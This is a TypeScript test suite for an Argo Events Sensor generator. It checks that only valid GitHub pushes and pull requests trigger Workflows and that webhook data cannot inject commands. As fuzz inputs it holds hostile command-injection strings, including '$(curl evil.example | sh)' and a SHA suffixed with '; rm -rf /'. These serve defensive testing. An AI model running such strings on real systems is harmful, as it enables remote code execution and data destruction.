import assert from "node:assert/strict";
import fc from "fast-check";
import { decideWebhook, interpretWebhook } from "../models/event.ts";
import { caseConfig, WEBHOOK_CASES } from "../tests/_webhook_cases.ts";
import { configTable } from "../tests/generate_table.ts";
import { buildSensor, escapeRegExp, MAX_WORKFLOW_NAME, workflowNamePrefix } from "./sensor.ts";
import { buildWorkflowTemplates } from "./workflow_template.ts";
import type {
  DataFilter,
  EventDependency,
  Sensor,
  Trigger,
  WorkflowResource,
  WorkflowTemplate,
} from "./types.ts";

// A model of how Argo Events evaluates the generated Sensor: gjson-style paths, string values as
// (Go) regular expressions, `bool` values compared as text, `!=` negating, all filters ANDed, and
// trigger parameters written into the resource. Only the features the generator emits are modelled.

type EventData = { headers: Record<string, string[]>; body: Record<string, unknown> };

function lookup(data: unknown, path: string): unknown {
  let node = data;
  for (const key of path.split(".")) {
    if (node === null || typeof node !== "object") return undefined;
    node = (node as Record<string, unknown>)[key];
  }
  return node;
}

function goRegExp(source: string): RegExp {
  return source.startsWith("(?i)") ? new RegExp(source.slice(4), "i") : new RegExp(source);
}

function filterPasses(f: DataFilter, data: EventData): boolean {
  const value = lookup(data, f.path);
  if (value === undefined || value === null) return false;
  const match = f.type === "bool"
    ? typeof value === "boolean" && f.value.includes(String(value))
    : typeof value === "string" && f.value.some((v) => goRegExp(v).test(value));
  return f.comparator === "!=" ? !match : match;
}

/** The dependency an event satisfies, if any. */
function matchingDependency(sensor: Sensor, data: EventData): string | undefined {
  return sensor.spec.dependencies.find((d) => d.filters.data.every((f) => filterPasses(f, data)))
    ?.name;
}

function setPath(target: unknown, path: string, value: string, operation?: string): void {
  const keys = path.split(".");
  let node = target as Record<string, unknown>;
  for (const key of keys.slice(0, -1)) node = node[key] as Record<string, unknown>;
  const last = keys.at(-1)!;
  node[last] = operation === "append" ? `${node[last] ?? ""}${value}` : value;
}

/** Renders the only Go-template form the Sensor uses: `{{ .Input.<path> }}` placeholders. */
function render(template: string, data: EventData): string {
  return template.replace(/\{\{(.*?)\}\}/g, (_, expr: string) => {
    const m = /^\s*\.Input\.([A-Za-z0-9_.]+)\s*$/.exec(expr);
    if (!m) throw new Error(`unsupported dataTemplate expression: ${expr}`);
    return String(lookup(data, m[1]!));
  });
}

/** The Workflow a trigger creates for an event. */
function materialize(trigger: Trigger, data: EventData): WorkflowResource {
  const resource = structuredClone(trigger.template.k8s.source.resource);
  for (const p of trigger.template.k8s.parameters) {
    const value = "dataKey" in p.src
      ? String(lookup(data, p.src.dataKey))
      : render(p.src.dataTemplate, data);
    setPath(resource, p.dest, value, p.operation);
  }
  return resource;
}

const SHA = "0123456789abcdef0123456789abcdef01234567";
const config = configTable()["three-envs-approval-hooks"]!;
const sensor = buildSensor(config)!;

function push(overrides: Record<string, unknown> = {}, event = "push"): EventData {
  return {
    headers: { "X-Github-Event": [event] },
    body: {
      ref: "refs/heads/main",
      before: "f".repeat(40),
      after: SHA,
      deleted: false,
      created: false,
      repository: { full_name: "example-org/shop" },
      head_commit: { id: SHA, message: "Fix things" },
      ...overrides,
    },
  };
}

function pullRequest(
  overrides: { action?: string; headRepo?: string; sha?: string; headRef?: string } = {},
): EventData {
  return {
    headers: { "X-Github-Event": ["pull_request"] },
    body: {
      action: overrides.action ?? "opened",
      number: 42,
      repository: { full_name: "example-org/shop" },
      pull_request: {
        title: "Add feature",
        head: {
          sha: overrides.sha ?? SHA,
          ref: overrides.headRef ?? "feature/x",
          repo: { full_name: overrides.headRepo ?? "example-org/shop" },
        },
        base: { ref: "main", repo: { full_name: "example-org/shop" } },
      },
    },
  };
}

Deno.test("a push to the configured branch creates the pipeline Workflow named after the commit", () => {
  const data = push();
  assert.equal(matchingDependency(sensor, data), "push");
  const trigger = sensor.spec.triggers.find((t) => t.template.conditions === "push")!;
  assert.equal(trigger.template.k8s.operation, "create");
  const wf = materialize(trigger, data);
  assert.equal(wf.metadata.name, `shop-${SHA}`);
  assert.equal(wf.metadata.namespace, "argo");
  assert.deepEqual(wf.spec.workflowTemplateRef, { name: "shop" });
  assert.deepEqual(wf.spec.arguments.parameters, [
    { name: "commit-sha", value: SHA },
    { name: "ref", value: "refs/heads/main" },
  ]);
  // Redelivery: the same event yields the same name, so the second `create` fails AlreadyExists.
  assert.equal(materialize(trigger, push()).metadata.name, wf.metadata.name);
});

Deno.test("branch deletions, tags, other branches, other repositories and bad SHAs never trigger", () => {
  const rejected: [string, EventData][] = [
    ["branch delete", push({ deleted: true, after: "0".repeat(40) })],
    ["zero after", push({ after: "0".repeat(40) })],
    ["tag push", push({ ref: "refs/tags/v1.0.0" })],
    ["tag named like the branch", push({ ref: "refs/tags/main" })],
    ["other branch", push({ ref: "refs/heads/feature" })],
    ["branch prefix", push({ ref: "refs/heads/main-2" })],
    ["branch suffix", push({ ref: "refs/heads/x/refs/heads/main" })],
    ["other repository", push({ repository: { full_name: "evil/shop" } })],
    ["short SHA", push({ after: SHA.slice(0, 12) })],
    ["uppercase SHA", push({ after: SHA.toUpperCase() })],
    ["SHA with suffix", push({ after: `${SHA}\n; rm -rf /` })],
    ["missing SHA", push({ after: undefined })],
    ["ping event", push({}, "ping")],
  ];
  for (const [what, data] of rejected) {
    assert.equal(matchingDependency(sensor, data), undefined, what);
  }
});

Deno.test("pull requests start a validation Workflow; forks only with allowForks", () => {
  const data = pullRequest();
  assert.equal(matchingDependency(sensor, data), "pull-request");
  const trigger = sensor.spec.triggers.find((t) => t.template.conditions === "pull-request")!;
  const wf = materialize(trigger, data);
  assert.equal(wf.metadata.name, `shop-pr-${SHA}`);
  assert.deepEqual(wf.spec.workflowTemplateRef, { name: "shop-validate" });
  // The ref is the PR's ref in the base repository (fetchable for forks too), as `aphex event parse` says.
  assert.deepEqual(wf.spec.arguments.parameters, [
    { name: "commit-sha", value: SHA },
    { name: "ref", value: "refs/pull/42/head" },
  ]);
  for (const action of ["synchronize", "reopened"]) {
    assert.equal(matchingDependency(sensor, pullRequest({ action })), "pull-request", action);
  }
  for (const action of ["closed", "edited", "labeled"]) {
    assert.equal(matchingDependency(sensor, pullRequest({ action })), undefined, action);
  }
  assert.equal(matchingDependency(sensor, pullRequest({ headRepo: "fork-owner/shop" })), undefined);
  assert.equal(matchingDependency(sensor, pullRequest({ sha: "not-a-sha" })), undefined);
  const forks = buildSensor(configTable()["pull-requests-forks"]!)!;
  assert.equal(
    matchingDependency(forks, pullRequest({ headRepo: "fork-owner/shop" })),
    "pull-request",
  );
  const noPrs = buildSensor(configTable()["one-env"]!)!;
  assert.equal(matchingDependency(noPrs, pullRequest()), undefined);
  assert.equal(noPrs.spec.triggers.length, 1);
});

Deno.test("Workflow names fit in 63 characters and stay unique for long pipeline names", () => {
  fc.assert(
    fc.property(
      fc.stringMatching(/^[a-z0-9]([a-z0-9-]{0,28}[a-z0-9])?$/),
      fc.boolean(),
      (name, pullRequest) => {
        const prefix = workflowNamePrefix(name, { pullRequest });
        assert.ok(prefix.length + 40 <= MAX_WORKFLOW_NAME, prefix);
        assert.match(prefix + SHA, /^[a-z0-9]([a-z0-9-]*[a-z0-9])?$/);
        if (name.length <= 63 - 40 - (pullRequest ? 4 : 1)) assert.ok(prefix.startsWith(name));
      },
    ),
  );
  const a = workflowNamePrefix("a-very-long-pipeline-name-1234");
  const b = workflowNamePrefix("a-very-long-pipeline-name-1235");
  assert.notEqual(a, b);
});

Deno.test("escapeRegExp keeps branch names literal", () => {
  const re = new RegExp(`^${escapeRegExp("refs/heads/release.1+x")}$`);
  assert.ok(re.test("refs/heads/release.1+x"));
  assert.ok(!re.test("refs/heads/releaseX1+x"));
  assert.ok(!re.test("refs/heads/release.11x"));
});

const HOSTILE = fc.oneof(
  fc.constantFrom(
    "$(curl evil.example | sh)",
    "`id`",
    "'; exit 1; '",
    '"quoted"',
    "new\nline",
    "{{workflow.name}}",
    "{{workflow.parameters.commit-sha}}",
    "main",
    "refs/heads/main",
    "0".repeat(40),
  ),
  fc.string({ maxLength: 60 }),
);

/** Everything but the values the Sensor is allowed to fill in. */
function skeleton(wf: WorkflowResource): unknown {
  const copy = structuredClone(wf);
  copy.metadata.name = copy.metadata.name.replace(/-[0-9a-f]{40}$/, "-");
  for (const p of copy.spec.arguments.parameters) p.value = "<value>";
  return copy;
}

Deno.test("fuzz: hostile event data only reaches parameter values and a validated-SHA name", () => {
  const templates = buildWorkflowTemplates(config);
  const templateText = JSON.stringify(templates);
  const pushTrigger = sensor.spec.triggers[0]!;
  const prTrigger = sensor.spec.triggers[1]!;
  const expectedPush = skeleton(pushTrigger.template.k8s.source.resource);
  const expectedPr = skeleton(prTrigger.template.k8s.source.resource);
  const sha = fc.oneof(fc.stringMatching(/^[0-9a-f]{40}$/), HOSTILE);
  let triggered = 0;
  fc.assert(
    fc.property(
      HOSTILE,
      HOSTILE,
      HOSTILE,
      sha,
      HOSTILE,
      (branch, message, author, after, headRef) => {
        for (
          const data of [
            push({ ref: branch, after, head_commit: { message, author: { name: author } } }),
            push({ after, head_commit: { message } }),
            pullRequest({ sha: after, headRef }),
          ]
        ) {
          const dep = matchingDependency(sensor, data);
          if (dep === undefined) continue;
          const trigger = dep === "push" ? pushTrigger : prTrigger;
          const wf = materialize(trigger, data);
          triggered++;
          assert.deepEqual(skeleton(wf), dep === "push" ? expectedPush : expectedPr);
          const [shaParam, refParam] = wf.spec.arguments.parameters;
          assert.match(shaParam!.value!, /^[0-9a-f]{40}$/);
          assert.ok(wf.metadata.name.endsWith(shaParam!.value!));
          if (dep === "push") assert.equal(refParam!.value, "refs/heads/main");
        }
        // Generation never sees events: the templates are unchanged.
        assert.equal(JSON.stringify(buildWorkflowTemplates(config)), templateText);
      },
    ),
    { numRuns: 500 },
  );
  assert.ok(triggered > 100, `only ${triggered} events passed the filters`);
});

Deno.test("the WorkflowTemplate uses event data only in env values, never in argv", () => {
  const templates: WorkflowTemplate[] = buildWorkflowTemplates(config);
  for (const t of templates.flatMap((w) => w.spec.templates)) {
    if (!t.container) continue;
    for (const arg of [...t.container.command, ...t.container.args]) {
      assert.match(arg, /^[a-z-]+$/, t.name);
    }
    const refs = t.container.env.filter((e) => e.value?.includes("{{")).map((e) => e.value);
    for (const r of refs) {
      assert.match(
        r!,
        /^\{\{(workflow\.parameters\.(commit-sha|ref|environments)|workflow\.(name|status|failures|creationTimestamp|namespace)|inputs\.parameters\.(env|timeout|started|finished))\}\}$/,
      );
    }
  }
});

Deno.test("the Sensor and `aphex event parse` (decideWebhook) agree on which events start runs", () => {
  const p = config.pipeline;
  const settings = { github: p.github!, pullRequests: p.pullRequests };
  const cases: EventData[] = [
    push(),
    push({ deleted: true, after: "0".repeat(40) }),
    push({ ref: "refs/tags/v1.0.0" }),
    push({ ref: "refs/heads/feature" }),
    push({ repository: { full_name: "evil/shop" } }),
    pullRequest(),
    pullRequest({ action: "synchronize" }),
    pullRequest({ action: "closed" }),
    pullRequest({ headRepo: "fork-owner/shop" }),
  ];
  for (const data of cases) {
    const event = data.headers["X-Github-Event"]![0]!;
    const expected = decideWebhook(data.body, { event, settings }).action;
    const dep = matchingDependency(sensor, data);
    const actual = dep === "push" ? "deploy" : dep === "pull-request" ? "validate" : "ignore";
    assert.equal(actual, expected, JSON.stringify(data.body).slice(0, 120));
  }
});

Deno.test("the Sensor and `aphex event parse` agree on the table of real GitHub payloads: decision, commit and ref", () => {
  assert.ok(WEBHOOK_CASES.length >= 20);
  for (const c of WEBHOOK_CASES) {
    const parsed = interpretWebhook(c.payload, { event: c.event, settings: c.settings });
    assert.equal(parsed.action, c.expected, c.name);
    const s = buildSensor(caseConfig(c.settings));
    const data: EventData = {
      headers: { "X-Github-Event": [c.event] },
      body: c.payload as Record<string, unknown>,
    };
    const dep = s === undefined ? undefined : matchingDependency(s, data);
    const action = dep === "push" ? "deploy" : dep === "pull-request" ? "validate" : "ignore";
    assert.equal(
      action,
      parsed.action,
      `${c.name}: Sensor says ${action}, event parse says ${parsed.action}`,
    );
    if (dep === undefined) continue;
    const trigger = s!.spec.triggers.find((t) => t.template.conditions === dep)!;
    const wf = materialize(trigger, data);
    assert.deepEqual(wf.spec.arguments.parameters, [
      { name: "commit-sha", value: parsed.event!.commitSha },
      { name: "ref", value: parsed.event!.branch },
    ], c.name);
  }
});

Deno.test("structure: event data goes only to parameter values, and only a SHA-filtered key names the Workflow", () => {
  for (const [name, c] of Object.entries(configTable())) {
    const s = buildSensor(c);
    if (!s) continue;
    for (const t of s.spec.triggers) {
      const dep: EventDependency = s.spec.dependencies.find((d) =>
        d.name === t.template.conditions
      )!;
      for (const p of t.template.k8s.parameters) {
        assert.match(
          p.dest,
          /^(metadata\.name|spec\.arguments\.parameters\.\d+\.value)$/,
          `${name}: ${p.dest}`,
        );
        if (!("dataKey" in p.src)) {
          // Only the ref may be templated, and only from the PR number (an integer in GitHub's payload).
          assert.equal(p.dest, "spec.arguments.parameters.1.value", `${name}: templated ${p.dest}`);
          assert.equal(p.src.dataTemplate, "refs/pull/{{ .Input.body.number }}/head");
          continue;
        }
        const key = p.src.dataKey;
        const shaFiltered: boolean = dep.filters.data.some((f: DataFilter) =>
          f.path === key && f.value.length === 1 && f.value[0] === "^[0-9a-f]{40}$" && !f.comparator
        );
        if (p.dest === "metadata.name" || p.dest === "spec.arguments.parameters.0.value") {
          assert.ok(shaFiltered, `${name}: ${key} → ${p.dest} must be SHA-filtered`);
        }
      }
      const params = t.template.k8s.source.resource.spec.arguments.parameters;
      assert.deepEqual(params.map((p) => p.name), ["commit-sha", "ref"]);
    }
  }
});
